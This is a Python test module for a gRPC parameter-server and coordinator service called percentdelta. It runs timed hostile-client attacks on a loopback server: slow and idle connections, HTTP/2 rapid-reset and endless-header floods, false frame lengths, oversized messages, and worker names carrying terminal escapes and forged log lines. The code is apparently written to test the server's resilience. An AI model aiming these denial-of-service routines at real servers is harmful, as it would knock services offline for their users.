# SPDX-License-Identifier: Apache-2.0
"""What a hostile or broken client does, for a while, to one server on loopback.

An attack is a function of a Target. It returns when its time is over, ignores every error, and goes on
after it, as an attacker would. Run as a program of its own, it takes the name of an attack, the
server's port and the seconds.
"""

import socket
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

import grpc

from percentdelta import _protocol

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\0\0\0\4\0\0\0\0\0"
LONG_NAME = "x" * 1_000_000
FORGED = "w\n2026-01-01T00:00:00.000Z I server-0 all is well\x1b[2J"


class Target:
    """A server, and for how long it is attacked."""

    def __init__(self, port: int, seconds: float) -> None:
        self.address = ("127.0.0.1", port)
        self._until = time.monotonic() + seconds
        self._kept: list[Any] = []

    def left(self) -> float:
        """Returns the seconds that are left."""
        return self._until - time.monotonic()

    def rest(self) -> None:
        """Waits for the end."""
        time.sleep(max(0.0, self.left()))

    def keep(self, held: Any) -> None:
        """Holds on to something until the end."""
        self._kept.append(held)

    def kept(self) -> int:
        """Returns how many things are held."""
        return len(self._kept)

    def drop(self) -> None:
        """Releases them."""
        self._kept.clear()

    def connect(self) -> socket.socket:
        """Opens a connection."""
        return socket.create_connection(self.address, timeout=5)

    def channel(self) -> Any:
        """Returns a gRPC channel with a connection of its own, which reads nothing by itself."""
        return grpc.insecure_channel(f"127.0.0.1:{self.address[1]}", options=[
            ("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1),
            ("grpc.max_receive_message_length", -1), ("grpc.http2.lookahead_bytes", 65536),
            ("grpc.http2.bdp_probe", 0)])

    def stub(self, service: str) -> Any:
        """Returns a stub with a connection of its own."""
        return _protocol.Stub(service, self.channel())


def again(target: Target, attempt: Callable[[], object], pause: float = 0.0) -> None:
    """Repeats an attempt until the time is over, whatever happens."""
    while target.left() > 0:
        try:
            attempt()
        except (OSError, grpc.RpcError, ValueError):
            time.sleep(0.01)
        time.sleep(pause)


def hold(target: Target, count: int, begin: Callable[[], Any]) -> None:
    """Keeps `count` calls open: begins another one for each that ends."""
    calls: list[Any] = []
    while target.left() > 0:
        calls = [call for call in calls if call.is_active()]
        for _ in range(min(50, count - len(calls))):
            try:
                calls.append(begin())
            except (grpc.RpcError, ValueError):
                pass
        time.sleep(0.02)


def idle_connections(target: Target) -> None:
    """1,000 connections on which nothing is sent."""
    def begin() -> None:
        target.keep(target.connect())
        if target.kept() >= 1000:
            target.rest()
    again(target, begin)


def settings_only(target: Target) -> None:
    """500 connections that begin HTTP/2, and then stand still."""
    def begin() -> None:
        connection = target.connect()
        connection.sendall(PREFACE + SETTINGS)
        target.keep(connection)
        if target.kept() >= 500:
            target.rest()
    again(target, begin)


def one_byte_a_second(target: Target) -> None:
    """100 connections, each of which sends a byte a second."""
    connections = [target.connect() for _ in range(100)]
    for byte in PREFACE * 10:
        if target.left() <= 0:
            return
        for connection in connections:
            try:
                connection.send(bytes([byte]))
            except OSError:
                pass
        time.sleep(1)


def garbage(target: Target) -> None:
    """Random bytes and HTTP/1.1."""
    requests = [b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", bytes(range(256)) * 16, b"\x16\x03\x01\x02\0",
                PREFACE + b"\xff" * 1000]

    def send() -> None:
        for request in requests:
            with target.connect() as connection:
                connection.sendall(request)
    again(target, send, 0.01)


def generation_of(target: Target) -> int:
    """Returns the open generation."""
    answer = target.stub("Coordinator").GetJob(_protocol.message("GetJobRequest")(), timeout=5)
    return int(answer.generation)


def half_open_pushes(target: Target) -> None:
    """500 pushes that send a header and then nothing; opened again as they are refused."""
    generation = generation_of(target)
    request = _protocol.message("PushRequest")()
    request.header.generation = generation

    def stream() -> Iterator[Any]:
        yield request
        target.rest()

    stubs = [target.stub("ParameterServer") for _ in range(8)]
    count = iter(range(10**9))
    hold(target, 500, lambda: stubs[next(count) % len(stubs)].Push.future(stream()))


def four_bytes_a_slice(target: Target) -> None:
    """100 pushes for the current step that send one value of each tensor of the first shard."""
    coordinator = target.stub("Coordinator")
    job = coordinator.GetJob(_protocol.message("GetJobRequest")(), timeout=5)
    push = _protocol.message("PushRequest")

    def stream() -> Iterator[Any]:
        progress = coordinator.GetProgress(
            _protocol.message("GetProgressRequest")(from_step=1 << 40), timeout=5)
        header = _protocol.message("PushHeader")(generation=job.generation, step=progress.step)
        yield push(header=header)
        for name in ("fc1/weights", "conv2/weights", "conv1/weights"):
            yield push(tensor=name, begin=0, values=b"\0\0\0\0")
        target.rest()

    stubs = [target.stub("ParameterServer") for _ in range(8)]
    count = iter(range(10**9))
    hold(target, 100, lambda: stubs[next(count) % len(stubs)].Push.future(stream()))


def unread_pulls(target: Target) -> None:
    """300 pulls of a future step that are never read."""
    request = _protocol.message("PullRequest")(generation=generation_of(target), step=10_000)
    stub = target.stub("ParameterServer")
    progress = target.stub("Coordinator")
    step = progress.GetProgress(_protocol.message("GetProgressRequest")(), timeout=5).step
    request.step = step + 3
    hold(target, 300, lambda: stub.Pull(request))


def unread_watchers(target: Target) -> None:
    """500 watchers of the statistics that never read."""
    stub = target.stub("Statistics")
    request = _protocol.message("WatchUpdateStatisticsRequest")(last=10_000)
    hold(target, 500, lambda: stub.WatchUpdateStatistics(request))


def refused_leases(target: Target) -> None:
    """4,000 calls for a lease at a time, of workers with another arithmetic than the first one's."""
    stubs = [target.stub("Coordinator") for _ in range(8)]
    progress = stubs[0].GetProgress(_protocol.message("GetProgressRequest")(), timeout=5)
    request = _protocol.message("AcquireLeaseRequest")
    count = iter(range(10**9))

    def begin() -> Any:
        number = next(count)
        return stubs[number % 8].AcquireLease.future(request(
            worker=f"hostile-{number % 4000}", arithmetic=progress.arithmetic + "-wrong",
            max_wait_ms=30_000))
    hold(target, 4000, begin)


def worker_names(target: Target) -> None:
    """As many names of workers as possible: short, long, and with control characters."""
    stub = target.stub("Coordinator")
    request = _protocol.message("RenewLeaseRequest")
    generation = generation_of(target)
    count = iter(range(10**9))

    def call() -> None:
        number = next(count)
        name = (f"w{number}", LONG_NAME, FORGED + str(number))[number % 20 if number % 20 < 3 else 0]
        stub.RenewLease(request(generation=generation, lease_id=1, worker=name), timeout=5)
    again(target, call)


def cheap_calls(target: Target) -> None:
    """Statistics, progress and the job, as fast as one client can."""
    coordinator, statistics = target.stub("Coordinator"), target.stub("Statistics")
    count = iter(range(10**9))
    calls: list[Callable[[], object]] = [
        lambda: coordinator.GetProgress(_protocol.message("GetProgressRequest")(), timeout=5),
        lambda: coordinator.GetJob(_protocol.message("GetJobRequest")(), timeout=5),
        lambda: statistics.GetUpdateStatistics(
            _protocol.message("GetUpdateStatisticsRequest")(last=10_000), timeout=5)]
    again(target, lambda: calls[next(count) % 3]())


def refused_heartbeats(target: Target) -> None:
    """Heartbeats of no shard of the cluster, with long addresses that forge log lines."""
    stub = target.stub("Coordinator")
    request = _protocol.message("HeartbeatRequest")
    again(target, lambda: stub.Heartbeat(
        request(shard=7, shard_count=2, job_hash=FORGED, address=LONG_NAME[:100_000] + ":1",
                incarnation=1), timeout=5))


def leases_of_others(target: Target) -> None:
    """Reports for leases of others that have wrong numbers of examples."""
    stub = target.stub("Coordinator")
    request = _protocol.message("CompleteLeaseRequest")
    generation = generation_of(target)
    count = iter(range(1, 10**9))
    again(target, lambda: stub.CompleteLease(request(
        generation=generation, lease_id=next(count), worker="hostile", examples=-1), timeout=5))


def reset_streams(target: Target) -> None:
    """Calls that are given up at once."""
    stub = target.stub("Coordinator")
    request = _protocol.message("AcquireLeaseRequest")(worker="hostile", max_wait_ms=30_000)

    def call() -> None:
        stub.AcquireLease.future(request).cancel()
    again(target, call)


def reflection_streams(target: Target) -> None:
    """2,000 streams of the reflection service that ask nothing."""
    channels = [target.channel() for _ in range(8)]

    def stream() -> Iterator[bytes]:
        target.rest()
        yield b""
    calls = [channel.stream_stream("/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")
             for channel in channels]
    count = iter(range(10**9))
    hold(target, 500, lambda: calls[next(count) % 8](stream()))


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Returns a frame of HTTP/2."""
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
            + payload)


def header_block(path: bytes) -> bytes:
    """Returns the compressed headers of a call."""
    return (b"\x83\x86\x04" + bytes([len(path)]) + path  # POST, http, the path
            + b"\x0f\x10\x10application/grpc" + b"\0\2te\x08trailers")


def resets_of_frames(target: Target) -> None:
    """Streams that are opened and reset at once, as fast as the connection takes the frames."""
    block = header_block(b"/percentdelta.v1.Coordinator/GetProgress")

    def flood() -> None:
        with target.connect() as connection:
            connection.sendall(PREFACE + SETTINGS)
            for first in range(1, 1 << 30, 1000):
                if target.left() <= 0:
                    return
                connection.sendall(b"".join(
                    frame(1, 4, stream, block) + frame(3, 0, stream, b"\0\0\0\x08")
                    for stream in range(first, first + 1000, 2)))
    again(target, flood)


def endless_headers(target: Target) -> None:
    """Headers that continue in frame after frame and never end."""
    literal = b"\0\x05x-abc\x7f\x81\x7e" + b"v" * (127 + 1 + 126 * 128)

    def flood() -> None:
        with target.connect() as connection:
            connection.sendall(PREFACE + SETTINGS + frame(1, 0, 1, b"\x83\x86"))
            while target.left() > 0:
                connection.sendall(frame(9, 0, 1, literal[:16384]) * 4)
    again(target, flood)


def huge_messages(target: Target) -> None:
    """Messages of 7 MiB where a few bytes are expected."""
    stub = target.stub("Coordinator")
    request = _protocol.message("RenewLeaseRequest")(worker="x" * (7 << 20))
    again(target, lambda: stub.RenewLease(request, timeout=5))


def declared_lengths(target: Target) -> None:
    """Frames that declare the greatest length and bring little of it."""
    def send() -> None:
        connection = target.connect()
        connection.sendall(PREFACE + SETTINGS + b"\xff\xff\xff\0\0\0\0\0\1" + b"\x7f\xff\xff\xff" * 64)
        target.keep(connection)
        if target.kept() > 200:
            target.drop()
    again(target, send, 0.01)


ATTACKS: dict[str, Callable[[Target], None]] = {
    function.__name__: function for function in (
        idle_connections, settings_only, one_byte_a_second, garbage, declared_lengths,
        half_open_pushes, four_bytes_a_slice, unread_pulls, unread_watchers, refused_leases,
        worker_names, cheap_calls, refused_heartbeats, leases_of_others,
        reset_streams, resets_of_frames, endless_headers, reflection_streams, huge_messages)}

# Those that need no call that the services know: outside, where there is TLS.
OUTSIDE = ("idle_connections", "settings_only", "one_byte_a_second", "garbage", "declared_lengths")


if __name__ == "__main__":
    ATTACKS[sys.argv[1]](Target(int(sys.argv[2]), float(sys.argv[3])))
